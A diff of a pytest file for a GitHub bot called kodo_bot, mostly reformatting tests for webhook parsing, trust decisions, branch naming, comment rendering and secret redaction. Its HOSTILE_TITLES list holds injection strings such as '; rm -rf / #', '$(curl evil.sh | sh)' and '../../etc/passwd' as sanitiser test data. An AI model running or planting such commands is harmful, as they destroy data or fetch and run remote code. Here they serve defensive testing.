@@ -10,7 +10,7 @@ import copy
 import json
 import re
 import subprocess
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -50,13 +50,13 @@ from kodo_bot.github.markers import (
     render_lease,
     render_marker,
 )
-from kodo_bot.redact import redact
 from kodo_bot.github.router import Router, WebhookEvent
 from kodo_bot.github.trust import Ignore, Refuse, Start, decide_trigger, is_trusted_commenter, needs_permission
+from kodo_bot.redact import redact
 
 EXAMPLES = Path(__file__).parent / "github_spec" / "webhook-examples"
 ALL_EXAMPLES = sorted(EXAMPLES.glob("*.json"))
-T0 = datetime(2025, 1, 1, 12, 0, tzinfo=timezone.utc)
+T0 = datetime(2025, 1, 1, 12, 0, tzinfo=UTC)
 
 
 def _example(name: str) -> dict:
@@ -93,10 +93,19 @@ def test_every_example_payload_parses_to_a_typed_value(path: Path):
 def test_label_trigger_fields():
     trigger = parse_event("issues", _labeled("kodo", body=None))
     assert trigger == LabelTrigger(
-        repo="Codertocat/Hello-World", issue_number=1, label="kodo", sender_login="Codertocat",
-        sender_type="User", is_pull_request=False, issue_title="Spelling error in the README file",
-        issue_body="", issue_state="open", issue_author="Codertocat", default_branch="master",
-        clone_url="https://github.com/Codertocat/Hello-World.git", repo_html_url="https://github.com/Codertocat/Hello-World",
+        repo="Codertocat/Hello-World",
+        issue_number=1,
+        label="kodo",
+        sender_login="Codertocat",
+        sender_type="User",
+        is_pull_request=False,
+        issue_title="Spelling error in the README file",
+        issue_body="",
+        issue_state="open",
+        issue_author="Codertocat",
+        default_branch="master",
+        clone_url="https://github.com/Codertocat/Hello-World.git",
+        repo_html_url="https://github.com/Codertocat/Hello-World",
     )
 
 
@@ -111,8 +120,19 @@ def test_a_label_on_a_pull_request_is_recognised_both_ways():
 
 
 @pytest.mark.parametrize(
-    "path", ["issue", "issue.number", "issue.title", "issue.state", "label", "label.name", "sender",
-             "sender.login", "repository", "repository.full_name"],
+    "path",
+    [
+        "issue",
+        "issue.number",
+        "issue.title",
+        "issue.state",
+        "label",
+        "label.name",
+        "sender",
+        "sender.login",
+        "repository",
+        "repository.full_name",
+    ],
 )
 def test_a_payload_lacking_a_field_names_it(path: str):
     payload = _labeled()
@@ -133,8 +153,13 @@ def test_a_field_of_the_wrong_type_is_named():
 
 @pytest.mark.parametrize(
     ("raw", "message"),
-    [(b"not json at all", "not JSON"), (b"[1, 2]", "JSON object"), (b"\xff\xfe", "UTF-8"), (b"  ", "empty"),
-     ('{"action": "labeled"', "not JSON")],
+    [
+        (b"not json at all", "not JSON"),
+        (b"[1, 2]", "JSON object"),
+        (b"\xff\xfe", "UTF-8"),
+        (b"  ", "empty"),
+        ('{"action": "labeled"', "not JSON"),
+    ],
 )
 def test_bad_raw_payloads_give_user_errors(raw: bytes | str, message: str):
     with pytest.raises(UserError, match=message):
@@ -154,10 +179,15 @@ def test_unknown_events_and_actions_are_ignored_not_errors():
 
 
 ENV = {
-    "GITHUB_EVENT_NAME": "issues", "GITHUB_EVENT_PATH": "/runner/_temp/event.json",
-    "GITHUB_REPOSITORY": "octo/widgets", "GITHUB_TOKEN": "ghs_" + "x" * 36,
-    "GITHUB_API_URL": "https://ghe.example.com/api/v3/", "GITHUB_SERVER_URL": "https://ghe.example.com",
-    "GITHUB_RUN_ID": "42", "GITHUB_STEP_SUMMARY": "/runner/summary.md", "GITHUB_OUTPUT": "/runner/out",
+    "GITHUB_EVENT_NAME": "issues",
+    "GITHUB_EVENT_PATH": "/runner/_temp/event.json",
+    "GITHUB_REPOSITORY": "octo/widgets",
+    "GITHUB_TOKEN": "ghs_" + "x" * 36,
+    "GITHUB_API_URL": "https://ghe.example.com/api/v3/",
+    "GITHUB_SERVER_URL": "https://ghe.example.com",
+    "GITHUB_RUN_ID": "42",
+    "GITHUB_STEP_SUMMARY": "/runner/summary.md",
+    "GITHUB_OUTPUT": "/runner/out",
 }
 
 
@@ -248,8 +278,13 @@ BOTS = KodoConfig(trusted_bots=("renovate", "helper[bot]"))
         ({"sender_login": "sneaky[bot]", "sender_type": "User"}, "admin", KodoConfig(), Ignore, "bot"),
         ({"sender_login": "renovate[bot]", "sender_type": "Bot"}, None, BOTS, Start, ""),
         ({"sender_login": "helper[bot]", "sender_type": "Bot"}, None, BOTS, Start, ""),
-        ({"sender_login": "renovate[bot]", "sender_type": "Bot", "is_pull_request": True}, None, BOTS,
-         Refuse, "pull request"),
+        (
+            {"sender_login": "renovate[bot]", "sender_type": "Bot", "is_pull_request": True},
+            None,
+            BOTS,
+            Refuse,
+            "pull request",
+        ),
     ],
 )
 def test_trust_decisions(changes, permission, config, expected, reason):
@@ -270,8 +305,7 @@ def test_refusal_comments_are_polite_and_say_why_and_what_to_do():
         assert "`kodo`" in decision.comment and "**What to do:**" in decision.comment
     assert "write, maintain or admin" in decide_trigger(_trigger(), "read", KodoConfig()).comment
     assert "not a collaborator" in decide_trigger(_trigger(), None, KodoConfig()).comment
-    assert "issues, not pull requests" in decide_trigger(
-        _trigger(is_pull_request=True), "admin", KodoConfig()).comment
+    assert "issues, not pull requests" in decide_trigger(_trigger(is_pull_request=True), "admin", KodoConfig()).comment
     odd = decide_trigger(_trigger(sender_login="x`<!--y"), "read", KodoConfig())
     assert "<!--" not in odd.comment and "`" not in odd.comment.split(",")[0]
 
@@ -284,9 +318,15 @@ def test_permission_is_only_asked_for_when_it_matters():
 
 @pytest.mark.parametrize(
     ("login", "user_type", "permission", "trusted"),
-    [("alice", "User", "write", True), ("alice", "User", "admin", True), ("bob", "User", "read", False),
-     ("bob", "User", None, False), ("renovate[bot]", "Bot", None, True), ("other[bot]", "Bot", "admin", False),
-     ("renovate", "Bot", None, True)],
+    [
+        ("alice", "User", "write", True),
+        ("alice", "User", "admin", True),
+        ("bob", "User", "read", False),
+        ("bob", "User", None, False),
+        ("renovate[bot]", "Bot", None, True),
+        ("other[bot]", "Bot", "admin", False),
+        ("renovate", "Bot", None, True),
+    ],
 )
 def test_trusted_commenters(login, user_type, permission, trusted):
     assert is_trusted_commenter(login, user_type, permission, BOTS) is trusted
@@ -295,9 +335,35 @@ def test_trusted_commenters(login, user_type, permission, trusted):
 # -- goal text -------------------------------------------------------------------------------------------
 
 HIDDEN_CHARS = [
-    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064",
-    "\ufeff", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
-    "\u00ad", "\u180e", "\U000e0041", "\U000e007f", "\ufe0f", "\U000e0100", "\u3164", "\x07", "\x1b",
+    "\u200b",
+    "\u200c",
+    "\u200d",
+    "\u200e",
+    "\u200f",
+    "\u2060",
+    "\u2061",
+    "\u2062",
+    "\u2063",
+    "\u2064",
+    "\ufeff",
+    "\u202a",
+    "\u202b",
+    "\u202c",
+    "\u202d",
+    "\u202e",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+    "\u00ad",
+    "\u180e",
+    "\U000e0041",
+    "\U000e007f",
+    "\ufe0f",
+    "\U000e0100",
+    "\u3164",
+    "\x07",
+    "\x1b",
 ]
 
 
@@ -375,10 +441,30 @@ def test_the_cap_holds_for_any_mix(max_chars: int):
 # -- branch names ----------------------------------------------------------------------------------------
 
 HOSTILE_TITLES = [
-    "Fix the login bug", "../../etc/passwd", "; rm -rf / #", "$(curl evil.sh | sh)", "`whoami`", "🎉🔥💥",
-    "Ünïcödé façade — naïve café", "日本語のタイトル", "a" * 300, ("word " * 80).strip(), ".lock", "x.lock",
-    "@{u}", "refs/heads/main", "HEAD", "--force", "   ", "", "foo..bar", "end.", "a/b\\c?d*e[f]~g^h:i",
-    "CAPS And-Dashes---here", "\u202etxt.exe", "null\x00byte",
+    "Fix the login bug",
+    "../../etc/passwd",
+    "; rm -rf / #",
+    "$(curl evil.sh | sh)",
+    "`whoami`",
+    "🎉🔥💥",
+    "Ünïcödé façade — naïve café",
+    "日本語のタイトル",
+    "a" * 300,
+    ("word " * 80).strip(),
+    ".lock",
+    "x.lock",
+    "@{u}",
+    "refs/heads/main",
+    "HEAD",
+    "--force",
+    "   ",
+    "",
+    "foo..bar",
+    "end.",
+    "a/b\\c?d*e[f]~g^h:i",
+    "CAPS And-Dashes---here",
+    "\u202etxt.exe",
+    "null\x00byte",
 ]
 
 
@@ -418,16 +504,24 @@ def test_markers_round_trip_and_cannot_be_broken_out_of(run_id: str):
     assert rendered.count("-->") == 1 and rendered.count("<") == 1 and rendered.count(">") == 1
     assert "\n" not in rendered
     assert find_marker(f"text before\n{rendered}\ntext after").model_dump() == {
-        "run": run_id, "kind": "verdicts", "round": 3}
+        "run": run_id,
+        "kind": "verdicts",
+        "round": 3,
+    }
     lease = Lease(run=run_id, heartbeat=T0, runner=run_id)
     assert find_lease("x " + render_lease(lease) + " y") == lease
 
 
 def test_find_marker_skips_malformed_and_filters_by_kind():
-    body = "\n".join([
-        "<!-- kodo-bot: not json -->", '<!-- kodo-bot: {"run": "r", "kind": "bogus"} -->',
-        '<!-- kodo-bot: {"kind": "progress"} -->', render_marker("r9", "progress"), render_marker("r9", "summary"),
-    ])
+    body = "\n".join(
+        [
+            "<!-- kodo-bot: not json -->",
+            '<!-- kodo-bot: {"run": "r", "kind": "bogus"} -->',
+            '<!-- kodo-bot: {"kind": "progress"} -->',
+            render_marker("r9", "progress"),
+            render_marker("r9", "summary"),
+        ]
+    )
     assert find_marker(body).kind == "progress"
     assert find_marker(body, "summary").run == "r9"
     assert find_marker(body, "outcome") is None
@@ -452,33 +546,52 @@ def test_lease_state(age_s: float, expected: str):
 HOSTILE = 'x </details> <!-- kodo-bot: {"run": "evil", "kind": "summary"} --> ```\n# h @octocat | $a$ <script>'
 SHA = "a1b2c3d4" * 5
 V_FAIL = Verdict(
-    verifier="tester", passed=False, summary="Tests fail.\n```\nunclosed fence </details>",
-    findings=(Finding(severity="high", file="src/app.py", line=12, message=HOSTILE),
-              Finding(severity="low", message="nit")),
-    evidence=(Evidence(command="pytest -q | tail", exit_code=1, output_tail="FAILED t\n```\n<!-- x -->"),
-              Evidence(command="ruff check", exit_code=0)),
+    verifier="tester",
+    passed=False,
+    summary="Tests fail.\n```\nunclosed fence </details>",
+    findings=(
+        Finding(severity="high", file="src/app.py", line=12, message=HOSTILE),
+        Finding(severity="low", message="nit"),
+    ),
+    evidence=(
+        Evidence(command="pytest -q | tail", exit_code=1, output_tail="FAILED t\n```\n<!-- x -->"),
+        Evidence(command="ruff check", exit_code=0),
+    ),
     cost_usd=0.2,
 )
 V_PASS = Verdict(verifier="reviewer", passed=True, summary="Looks right.")
-COST = CostReport(api_usd=0.5, subscription_usd=1.25, by_agent={
-    "orchestrator": AgentCost(bucket="api", usd=0.5, calls=4, usage=Usage(input_tokens=1000, output_tokens=200)),
-    "coder": AgentCost(bucket="subscription", usd=1.05, calls=2),
-    "verifier/tester": AgentCost(bucket="subscription", usd=0.2, calls=1),
-})
+COST = CostReport(
+    api_usd=0.5,
+    subscription_usd=1.25,
+    by_agent={
+        "orchestrator": AgentCost(bucket="api", usd=0.5, calls=4, usage=Usage(input_tokens=1000, output_tokens=200)),
+        "coder": AgentCost(bucket="subscription", usd=1.05, calls=2),
+        "verifier/tester": AgentCost(bucket="subscription", usd=0.2, calls=1),
+    },
+)
 
 
 def _run_events() -> list:
     e = dict(run_id="r1", at=T0)
     return [
-        ev.RunStarted(seq=1, goal_title="Fix", project="p", branch="kodo/issue-7-fix", worktree="/w",
-                      team=["coder", "tester"], max_cycles=3, **e),
+        ev.RunStarted(
+            seq=1,
+            goal_title="Fix",
+            project="p",
+            branch="kodo/issue-7-fix",
+            worktree="/w",
+            team=["coder", "tester"],
+            max_cycles=3,
+            **e,
+        ),
         ev.CycleStarted(seq=2, cycle=1, **e),
         ev.OrchestratorReplied(seq=3, cycle=1, exchange=1, text="Plan: <b>bold</b> @someone", cost_usd=0.1, **e),
         ev.AgentCallStarted(seq=4, cycle=1, call_id="c1", agent="coder", task="write the fix", **e),
         ev.AgentCallFinished(seq=5, cycle=1, call_id="c1", result=AgentResult(agent="coder", cost_usd=1.0), **e),
         ev.CycleCommitted(seq=6, cycle=1, sha=SHA, branch="kodo/issue-7-fix", summary="fixed", **e),
-        ev.ChecksFinished(seq=7, cycle=1, round=1, sha=SHA, passed=True,
-                          results=[CheckResult(command="make test", exit_code=0)], **e),
+        ev.ChecksFinished(
+            seq=7, cycle=1, round=1, sha=SHA, passed=True, results=[CheckResult(command="make test", exit_code=0)], **e
+        ),
         ev.VerificationStarted(seq=8, cycle=1, round=1, sha=SHA, verifiers=["tester", "reviewer"], **e),
         ev.VerdictReceived(seq=9, cycle=1, round=1, sha=SHA, verdict=V_FAIL, **e),
     ]
@@ -509,9 +622,19 @@ def test_should_publish_coalesces_but_never_skips_cycle_ends_or_the_end():
     assert progress.should_publish(tick, last_published=None, now=T0, min_interval_s=10)
     assert not progress.should_publish(tick, now=T0 + timedelta(seconds=3), **kw)
     assert progress.should_publish(None, now=T0 + timedelta(seconds=10), **kw)
-    for event in (ev.CycleEnded(run_id="r", cycle=1, reason="", summary=""),
-                  ev.RunFinished(run_id="r", outcome=Outcome.accepted, reason="", cycles=1, rounds=1,
-                                 cost=CostReport(), duration_s=1, branch="b")):
+    for event in (
+        ev.CycleEnded(run_id="r", cycle=1, reason="", summary=""),
+        ev.RunFinished(
+            run_id="r",
+            outcome=Outcome.accepted,
+            reason="",
+            cycles=1,
+            rounds=1,
+            cost=CostReport(),
+            duration_s=1,
+            branch="b",
+        ),
+    ):
         assert progress.should_publish(event, now=T0 + timedelta(seconds=1), **kw)
 
 
@@ -534,9 +657,20 @@ def _assert_contained(body: str, expected_details: int) -> str:
 
 def _finished(outcome: Outcome = Outcome.accepted, **changes) -> ev.RunFinished:
     return ev.RunFinished(
-        run_id="r1", outcome=outcome, reason="verification round 2 accepted", summary="Fixed the typo in README.",
-        cycles=2, rounds=2, cost=COST, duration_s=754, branch="kodo/issue-7-fix", head_sha=SHA,
-        handoff="Left: docs.", files_changed=["README.md", "weird|name.py"], **changes)
+        run_id="r1",
+        outcome=outcome,
+        reason="verification round 2 accepted",
+        summary="Fixed the typo in README.",
+        cycles=2,
+        rounds=2,
+        cost=COST,
+        duration_s=754,
+        branch="kodo/issue-7-fix",
+        head_sha=SHA,
+        handoff="Left: docs.",
+        files_changed=["README.md", "weird|name.py"],
+        **changes,
+    )
 
 
 def test_progress_comment_shows_run_job_plan_cycle_agents_verdicts_cost_heartbeat():
@@ -570,8 +704,15 @@ def test_markdown_helpers_keep_verbatim_text_verbatim():
 
 def test_verification_comment_has_every_verdict_findings_and_evidence_folded():
     event = ev.VerificationFinished(
-        run_id="r1", cycle=1, round=2, sha=SHA, accepted=False, wall_s=75, verdicts=[V_FAIL, V_PASS],
-        checks=[CheckResult(command="make test", exit_code=2, output_tail="boom", duration_s=3)])
+        run_id="r1",
+        cycle=1,
+        round=2,
+        sha=SHA,
+        accepted=False,
+        wall_s=75,
+        verdicts=[V_FAIL, V_PASS],
+        checks=[CheckResult(command="make test", exit_code=2, output_tail="boom", duration_s=3)],
+    )
     body = render.render_verification_round(event)
     assert find_marker(body).model_dump() == {"run": "r1", "kind": "verdicts", "round": 2}
     assert "Verification round 2: changes requested" in body
@@ -589,8 +730,11 @@ def test_verification_comment_has_every_verdict_findings_and_evidence_folded():
 
 
 def test_huge_output_is_shrunk_to_fit_a_comment():
-    noisy = V_FAIL.model_copy(update={"evidence": tuple(
-        Evidence(command=f"cmd {i}", exit_code=1, output_tail="z" * 10_000) for i in range(60))})
+    noisy = V_FAIL.model_copy(
+        update={
+            "evidence": tuple(Evidence(command=f"cmd {i}", exit_code=1, output_tail="z" * 10_000) for i in range(60))
+        }
+    )
     event = ev.VerificationFinished(run_id="r1", cycle=1, round=1, sha=SHA, accepted=False, verdicts=[noisy])
     body = render.render_verification_round(event)
     assert len(body) <= 65_000 and "`cmd 59` → exit 1" in body
@@ -610,9 +754,13 @@ def test_accepted_summary_has_what_why_files_cycles_rounds_cost_and_duration():
 
 @pytest.mark.parametrize(
     ("outcome", "label"),
-    [(Outcome.max_cycles, "kodo:needs-human"), (Outcome.needs_human, "kodo:needs-human"),
-     (Outcome.budget_exhausted, "kodo:needs-human"), (Outcome.stopped, "kodo:needs-human"),
-     (Outcome.error, "kodo:failed")],
+    [
+        (Outcome.max_cycles, "kodo:needs-human"),
+        (Outcome.needs_human, "kodo:needs-human"),
+        (Outcome.budget_exhausted, "kodo:needs-human"),
+        (Outcome.stopped, "kodo:needs-human"),
+        (Outcome.error, "kodo:failed"),
+    ],
 )
 def test_not_accepted_comment_says_which_why_done_left_and_label(outcome: Outcome, label: str):
     assert render.label_for_outcome(outcome) == label
@@ -676,9 +824,13 @@ def test_redact_masks_listed_secrets_and_known_token_shapes():
 
 def test_redact_finds_secrets_in_rendered_markdown():
     listed, shaped = "my_secret_value_42", "github_pat_" + "Ab_1" * 10
-    leaky = V_FAIL.model_copy(update={
-        "summary": f"saw {listed}", "findings": (Finding(message=f"token {listed} and {shaped}"),),
-        "evidence": (Evidence(command=f"echo {listed}", exit_code=0, output_tail=f"{listed}\n{shaped}"),)})
+    leaky = V_FAIL.model_copy(
+        update={
+            "summary": f"saw {listed}",
+            "findings": (Finding(message=f"token {listed} and {shaped}"),),
+            "evidence": (Evidence(command=f"echo {listed}", exit_code=0, output_tail=f"{listed}\n{shaped}"),),
+        }
+    )
     event = ev.VerificationFinished(run_id="r1", cycle=1, round=1, sha=SHA, accepted=False, verdicts=[leaky])
     body = redact(render.render_verification_round(event), [listed])
     shown = MD.render(body).replace("\u200b", "")
